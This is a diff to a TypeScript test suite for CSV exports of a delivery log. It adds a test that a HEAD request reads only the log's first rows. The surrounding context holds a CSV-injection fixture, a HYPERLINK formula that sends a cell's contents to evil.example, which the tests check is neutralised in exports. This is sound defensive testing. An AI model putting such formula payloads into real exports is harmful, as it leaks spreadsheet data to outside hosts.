@@ -1,6 +1,7 @@
 import { get, type IncomingMessage } from 'node:http';
 import { parse } from 'csv-parse/sync';
 import { Client } from 'pg';
+import { LogPages } from '../../src/audit/log-pages.js';
 import { newId } from '../../src/clock/new-id.js';
 import { type Answer, call, TestGateway } from '../support/test-gateway.js';
 
@@ -113,6 +114,22 @@ describe('exports of the log', () => {
       ticket_title: `'=HYPERLINK("http://evil.example/?"&A1, "click")`,
     });
     for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('read no more of the log than its first rows for whoever asks for headers alone', async () => {
+    const read = jest.spyOn(LogPages.prototype, 'read');
+    const answer = await call(`${gateway.url}/api/v1/deliveries/export?destination_id=${destinationId}&format=csv`, {
+      method: 'HEAD',
+      headers: { authorization: `Bearer ${gateway.adminKey}` },
+    });
+    expect([answer.status, answer.headers.get('content-type')]).toEqual([
+      200,
+      'text/csv; charset=utf-8; header=present',
+    ]);
+    // One more question of the same process: a stream that is read for nobody has gone on by then.
+    expect(linesOf(await exported('deliveries', `destination_id=${destinationId}`))).toHaveLength(MANY);
+    expect(read).toHaveBeenCalledTimes(1 + 3);
+    read.mockRestore();
   });
 
   it('of nothing are empty, or a head', async () => {
